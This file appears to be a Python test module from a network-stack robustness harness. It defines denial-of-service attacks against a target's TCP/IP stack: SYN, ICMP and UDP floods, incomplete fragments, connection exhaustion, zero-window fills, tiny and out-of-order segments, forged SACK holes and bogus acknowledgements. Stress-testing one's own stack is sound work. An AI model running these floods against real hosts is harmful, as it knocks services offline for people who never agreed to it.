"""Attacks on the TCP/IP stack, through a session of the attacker's own."""

import os
import random
import struct
import time
from typing import Any

from hostile.attack import Attack, attack
from hostile.evil import Evil
from hostile.packets import ACK, PSH, SYN, fragment, icmp, tcp, udp

SMALL_SEGMENTS = b"\2\4\0\x64\4\2\3\3\7"
"""TCP options: MSS 100, SACK, window scale 7."""
Connection = tuple[bytes, int, int, int]
"""Source address, source port, our next sequence number, and what we acknowledge."""


def _ready(fight: Attack) -> Evil:
    return Evil(fight.target).become_child().open_session()


def _segment(evil: Evil, connection: Connection, at: int = 0, more_acked: int = 0, **fields: Any) -> bytes:
    """Return a segment of a connection, `at` bytes on in its stream."""
    source, port, seq, ack = connection
    flags = fields.pop("flags", ACK)
    return tcp(source, evil.target.address, (port, 7), seq + at, ack + more_acked, flags, **fields)


def _established(fight: Attack, evil: Evil, count: int, *, window: int = 65535,
                 options: bytes = b"") -> list[Connection]:
    """Return as many connections to the echo server as came about."""
    got: list[bytes] = []
    evil.on_payload = lambda payload: got.append(payload[1:]) if payload[:1] == b"\1" else None
    made: list[Connection] = []
    for start in range(0, count, 100):
        wanted = {(evil.subnet + struct.pack(">Q", 1 + number // 60000), 1024 + number % 60000)
                  for number in range(start, min(count, start + 100))}
        evil.ip(tcp(source, fight.target.address, (port, 7), 1000, 0, SYN, window=window, options=options)
                for source, port in sorted(wanted))
        end = time.monotonic() + 1
        while wanted and time.monotonic() < end:
            time.sleep(0.002)
            while got:
                packet = got.pop()
                ends = packet[24:40], int.from_bytes(packet[42:44])
                if packet[6] == 6 and packet[53] & 18 == 18 and ends in wanted:
                    wanted.discard(ends)
                    made.append((*ends, 1001, int.from_bytes(packet[44:48]) + 1))
        evil.ip(_segment(evil, connection, window=window) for connection in made[-100:])
        if not fight.going:
            break
    evil.on_payload = lambda payload: None
    return made


@attack
def syn_flood(fight: Attack) -> int:
    """20,000 SYNs a second from the addresses of one /64."""
    evil, rnd = _ready(fight), random.Random(1)

    def syn() -> bytes:
        ports = rnd.randrange(1, 65535), 7
        return tcp(evil.subnet + os.urandom(8), fight.target.address, ports, rnd.getrandbits(32), 0, SYN)

    def step() -> None:
        evil.ip(syn() for _ in range(100))

    fight.begin()
    return 100 * fight.repeat(step, 200)


@attack
def idle_connections(fight: Attack) -> str:
    """As many connections as can be had, left alone."""
    evil = _ready(fight)
    fight.begin()
    made = _established(fight, evil, 66_000)
    fight.rest()
    return f"{len(made)} established"


@attack
def ping_flood(fight: Attack) -> int:
    """30,000 echo requests a second."""
    evil = _ready(fight)
    some = [icmp(evil.address, fight.target.address, 128, b"\0\1\0\1" + bytes(1000))] * 50
    fight.begin()
    return 50 * fight.repeat(lambda: evil.ip(some), 600)


def _udp_flood(fight: Attack, port: int) -> int:
    evil = _ready(fight)
    some = [udp(evil.address, fight.target.address, (1000, port), bytes(100))] * 50
    fight.begin()
    return 50 * fight.repeat(lambda: evil.ip(some), 600)


@attack
def udp_closed(fight: Attack) -> int:
    """30,000 datagrams a second to a closed port: each may be answered with an error."""
    return _udp_flood(fight, 9)


@attack
def udp_open(fight: Attack) -> int:
    """30,000 datagrams a second to an echo service."""
    return _udp_flood(fight, 7)


@attack
def fragments(fight: Attack) -> int:
    """20,000 first and middle fragments a second of datagrams that are never whole."""
    evil, rnd = _ready(fight), random.Random(1)

    def step() -> None:
        ends = evil.address, fight.target.address
        evil.ip(fragment(*ends, rnd.getrandbits(32), index, True, bytes(8)) for index in range(50))

    fight.begin()
    return 50 * fight.repeat(step, 400)


@attack
def out_of_order(fight: Attack) -> int:
    """Single bytes all over the windows of many connections."""
    evil = _ready(fight)
    fight.begin()
    made = _established(fight, evil, 300, options=b"\2\4\xff\xc3\3\3\7")
    for connection in made:
        evil.ip(_segment(evil, connection, 60000 - 500 * index, data=b"z") for index in range(110))
    fight.rest()
    return len(made)


@attack
def unread(fight: Attack) -> int:
    """Fill an echo server's connections from both sides: it may send nothing back."""
    evil = _ready(fight)
    fight.begin()
    made, sent = _established(fight, evil, 300, window=0), 0
    for step in range(40):
        for connection in made:
            evil.ip([_segment(evil, connection, step * 60000, window=0, data=bytes(60000))])
            sent += 60000
            if not fight.going:
                return sent
    fight.rest()
    return sent


@attack
def tiny(fight: Attack) -> int:
    """Segments of two bytes at random places of the window."""
    evil, rnd, sent = _ready(fight), random.Random(1), 0
    fight.begin()
    made = _established(fight, evil, 40)
    while fight.going and made:
        for connection in made:
            evil.ip(_segment(evil, connection, 1 + rnd.randrange(60000), data=b"xy") for _ in range(60))
            sent += 60
    return sent


@attack
def sacks(fight: Attack) -> int:
    """Acknowledge as many holes as can be, and nothing else."""
    evil, rnd, sent = _ready(fight), random.Random(1), 0
    fight.begin()
    made = _established(fight, evil, 40, options=SMALL_SEGMENTS)
    for connection in made:
        evil.ip(_segment(evil, connection, 60000 * step, flags=ACK | PSH, data=bytes(60000)) for step in range(4))

    def holes(ack: int) -> bytes:
        starts = [ack + rnd.randrange(1, 1400) * 100 for _ in range(4)]
        return b"\1\1\5\x22" + b"".join(struct.pack(">II", start % 2**32, (start + 50) % 2**32) for start in starts)

    while fight.going and made:
        for connection in made:
            evil.ip(_segment(evil, connection, 240_000, options=holes(connection[3])) for _ in range(40))
            sent += 40
    return sent


@attack
def wild_acks(fight: Attack) -> int:
    """Acknowledge what was never sent."""
    evil, rnd = _ready(fight), random.Random(1)
    fight.begin()
    made = _established(fight, evil, 10)

    def step() -> None:
        for connection in made:
            evil.ip(_segment(evil, connection, more_acked=rnd.randrange(1, 1 << 20)) for _ in range(50))

    return 50 * len(made) * fight.repeat(step, 100)
